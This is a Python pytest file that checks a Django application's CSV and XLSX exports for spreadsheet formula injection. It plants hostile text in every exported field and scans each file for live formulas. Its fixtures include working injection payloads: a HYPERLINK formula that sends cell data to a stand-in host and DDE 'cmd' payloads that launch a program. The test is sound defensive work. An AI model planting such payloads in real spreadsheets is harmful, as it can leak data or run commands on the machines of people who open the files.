"""Every export the application makes, from hostile stored text: no live formula anywhere.

Text people type (titles, names, notes, services, survey titles) that starts with = + - @,
a tab or a carriage return would run as a formula in a spreadsheet program. The project
writes every spreadsheet through one guard (`pokja.spreadsheets`): text cells of XLSX are
text with the quote prefix, CSV cells get an apostrophe. This test stores such text in
every field an export shows, makes every export (downloads and background exports), and
scans each file: no formula element in any XLSX sheet, every formula-like text cell quoted,
no CSV cell starting with a formula character. A new download is caught by the check that
the covered URL names are every download the URL configuration has.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from evaluations.services import answer_evidence_add, answer_set_tpi, answer_set_unit
from pokja.models import ActionPlanItem, Unit, User
from pokja.spreadsheets import FORMULA_PREFIXES
from reports.models import ExportJob
from reports.tasks import run_export
from tests.factories import make_plan_item
from tests.surveys.factories import add_responses, make_survey

pytestmark = pytest.mark.django_db

HOSTILE = {
    "unit": '=HYPERLINK("http://evil.example/?"&A1,"Polres")',
    "person": "+62 812 =cmd|' /C calc'!A0",
    "title": "=1+1 Sosialisasi",
    "description": "-2+3 uraian",
    "output": "@SUM(A1:A9) keluaran",
    "indicator": "\t=1+1 indikator",
    "evidence": "=cmd|' /C calc'!A0 bukti",
    "unit_note": "@catatan unit",
    "tpi_note": "=catatan TPI",
    "survey": "=Survei SPAK",
    "service": "+Pelayanan SIM",
}

# Every download of the application, each made below (`make_every_export`).
DOWNLOADS = {
    "pokja_plan_template",
    "pokja_plan_export",
    "survey_import_template",
    "survey_export_responses",
    "survey_export_results",
    "units_overview_export",
    "export_download",  # the background exports: LKE workbook, plans, PDF, evidence bundle
}
# Files people uploaded, handed back as they are (never written by the application).
NOT_EXPORTS = {"evidence_download", "survey_qr"}


def url_names(patterns=None, prefix=""):
    for pattern in patterns if patterns is not None else get_resolver().url_patterns:
        if isinstance(pattern, URLResolver):
            if str(pattern.pattern).startswith("admin/"):
                continue
            yield from url_names(pattern.url_patterns, prefix + str(pattern.pattern))
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield prefix + str(pattern.pattern), pattern.name


def test_the_scan_covers_every_download_of_the_application():
    downloads = {
        name
        for route, name in url_names()
        if re.search(r"(download|export|template)", route) and not route.endswith("new/")
    }
    downloads -= {"export_status"}
    assert downloads - NOT_EXPORTS == DOWNLOADS


@pytest.fixture
def hostile_world(world):
    """The standard world with hostile text in every field an export shows."""
    programme = world.programme
    Unit.objects.filter(pk=world.unit.pk).update(name=HOSTILE["unit"])
    User.objects.filter(pk__in=[world.anggota1.pk, world.coordinator.pk]).update(
        full_name=HOSTILE["person"]
    )
    item = make_plan_item(
        programme,
        1,
        title=HOSTILE["title"],
        description=HOSTILE["description"],
        expected_output=HOSTILE["output"],
        success_indicator=HOSTILE["indicator"],
        owners=[world.anggota1],
    )
    ActionPlanItem.objects.filter(pk=item.pk).update(
        status=ActionPlanItem.Status.RETURNED, return_reason=HOSTILE["description"]
    )
    answer_set_unit(
        actor=world.coordinator,
        programme=programme,
        number=1,
        value="Ya",
        note=HOSTILE["unit_note"],
    )
    answer_set_tpi(
        actor=world.tpi, programme=programme, number=1, value="Ya", note=HOSTILE["tpi_note"]
    )
    answer_evidence_add(
        actor=world.coordinator,
        programme=programme,
        number=1,
        uploaded=SimpleUploadedFile(
            "=HYPERLINK(x).pdf", b"%PDF-1.4\n% bukti\n", content_type="application/pdf"
        ),
        title=HOSTILE["evidence"],
    )
    survey = make_survey(
        programme,
        "spak-2021",
        title=HOSTILE["survey"],
        services=[{"code": "sim", "name": HOSTILE["service"]}],
    )
    add_responses(survey, [dict.fromkeys(survey.spec.item_codes, 4)] * 3, service="sim")
    return world, item, survey


def _body(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def make_every_export(hostile_world) -> dict[str, tuple[str, bytes]]:
    """(kind, bytes) of every file the application writes, by a label."""
    world, _item, survey = hostile_world
    programme = world.programme
    files: dict[str, tuple[str, bytes]] = {}
    client = Client()
    client.force_login(world.coordinator)
    p = programme.url_kwargs()
    pokja = {**p, "number": 1}
    s = {**p, "survey_id": survey.pk}
    gets = {
        "plan template csv": (
            "csv",
            reverse("pokja_plan_template", kwargs={**pokja, "fmt": "csv"}),
        ),
        "plan template xlsx": (
            "xlsx",
            reverse("pokja_plan_template", kwargs={**pokja, "fmt": "xlsx"}),
        ),
        "plan export": ("xlsx", reverse("pokja_plan_export", kwargs=pokja)),
        "survey paper template": ("csv", reverse("survey_import_template", kwargs=s)),
    }
    for fmt in ("csv", "xlsx"):
        responses = reverse("survey_export_responses", kwargs={**s, "fmt": fmt})
        gets[f"survey responses {fmt}"] = (fmt, responses)
        gets[f"survey responses with labels {fmt}"] = (fmt, responses + "?values=labels")
        gets[f"survey results {fmt}"] = (
            fmt,
            reverse("survey_export_results", kwargs={**s, "fmt": fmt}),
        )
    for label, (kind, url) in gets.items():
        response = client.get(url)
        assert response.status_code == 200, (label, response.status_code)
        files[label] = (kind, _body(response))
    overseer = Client()
    overseer.force_login(world.oversight)
    response = overseer.get(reverse("units_overview_export"))
    assert response.status_code == 200
    files["units overview"] = ("xlsx", _body(response))
    for kind in ExportJob.Kind.values:
        client.post(reverse("export_create", kwargs=p), {"kind": kind})
        job = ExportJob.objects.filter(programme=programme, kind=kind).latest("pk")
        assert run_export(job.pk) is True, kind
        job.refresh_from_db()
        response = client.get(reverse("export_download", kwargs={**p, "job_id": job.pk}))
        assert response.status_code == 200, kind
        files[f"background {kind}"] = (job.filename.rsplit(".", 1)[-1], _body(response))
    return files


def live_formulas_in_xlsx(data: bytes) -> tuple[list[str], int]:
    """Problems found, and how many formula-like text cells were seen (quoted)."""
    problems, quoted = [], 0
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode()
                if re.search(r"<(\w+:)?f[\s>/]", xml):
                    problems.append(f"{name}: a formula element")
    workbook = load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and value.startswith((*FORMULA_PREFIXES, "\n")):
                    if cell.data_type != "s" or not cell.quotePrefix:
                        problems.append(f"{sheet.title}!{cell.coordinate}: {value[:30]!r}")
                    else:
                        quoted += 1
    return problems, quoted


def live_formulas_in_csv(data: bytes) -> tuple[list[str], int]:
    problems, quoted = [], 0
    for line, row in enumerate(csv.reader(io.StringIO(data.decode("utf-8-sig"))), start=1):
        for value in row:
            if value.startswith(FORMULA_PREFIXES):
                problems.append(f"line {line}: {value[:30]!r}")
            elif value.startswith("'") and value[1:].startswith(FORMULA_PREFIXES):
                quoted += 1
    return problems, quoted


def test_no_export_holds_a_live_formula_from_hostile_stored_text(hostile_world):
    files = make_every_export(hostile_world)
    problems: list[str] = []
    guarded: dict[str, int] = {}
    for label, (kind, data) in files.items():
        if kind == "xlsx":
            found, quoted = live_formulas_in_xlsx(data)
        elif kind == "csv":
            found, quoted = live_formulas_in_csv(data)
        elif kind == "zip":
            # The bundle's index is HTML (escaped); no spreadsheet is written into it.
            with zipfile.ZipFile(io.BytesIO(data)) as archive:
                names = archive.namelist()
            assert not [n for n in names if n.endswith((".xlsx", ".csv"))], names
            found, quoted = [], 1
        else:
            assert kind == "pdf" and data.startswith(b"%PDF"), label
            found, quoted = [], 1
        problems += [f"{label}: {p}" for p in found]
        guarded[label] = quoted
    assert not problems, "\n".join(problems)
    # Each spreadsheet really carried hostile text (so the scan looked at something) ...
    # (Templates and raw response codes hold no text people typed.)
    codes_only = {
        "plan template csv",
        "plan template xlsx",
        "survey paper template",
        "survey responses csv",
        "survey responses xlsx",
    }
    unguarded = [label for label, n in guarded.items() if n == 0 and label not in codes_only]
    assert not unguarded, f"exports without any hostile text to check: {unguarded}"
    # ... and every download of DOWNLOADS was made.
    assert {label.split(" ")[0] for label in files} >= {"plan", "survey", "units", "background"}
    assert {f"background {kind}" for kind in ExportJob.Kind.values} <= files.keys()
